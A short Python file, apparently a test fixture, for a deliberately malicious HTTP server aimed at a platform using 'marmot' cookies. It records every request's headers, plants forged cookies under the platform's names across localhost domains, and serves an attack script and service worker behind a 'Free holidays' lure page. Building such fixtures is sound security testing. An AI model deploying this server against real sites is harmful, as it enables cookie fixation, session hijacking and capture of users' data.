"""An app that was written to do harm: it keeps what it is sent, sets cookies for others, and serves an attack."""

import json
import os
import pathlib
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

HERE = pathlib.Path(__file__).parent
seen = []

# For everything above this host, and under the names that the platform uses.
COOKIES = [
    f"{name}=evil; Path=/; Domain={domain}"
    for domain in ("localhost", ".localhost")
    for name in ("marmot", "marmot_ticket", "marmot_state", "marmot_link", "theme")
] + ["marmot_ticket=evil; Path=/", "own=mine; Path=/"]


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self):
        seen.append([self.path, dict(self.headers)])
        path = self.path.split("?")[0]
        if path == "/seen":
            text, kind = json.dumps(seen), "application/json"
        elif path in ("/attack.js", "/worker.js"):
            text, kind = (HERE / path[1:]).read_text(), "text/javascript"
        else:
            text, kind = "<!doctype html><title>Free holidays</title><script src=/attack.js></script>", "text/html"
        body = text.encode()
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Service-Worker-Allowed", "/")
        if path == "/clear":
            self.send_header("Clear-Site-Data", '"cookies", "storage"')
        self.send_header("Strict-Transport-Security", "max-age=31536000; includeSubDomains")
        for cookie in COOKIES:
            self.send_header("Set-Cookie", cookie)
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_GET

    def log_message(self, *arguments):
        pass


ThreadingHTTPServer(("0.0.0.0", int(os.environ["PORT"])), Handler).serve_forever()
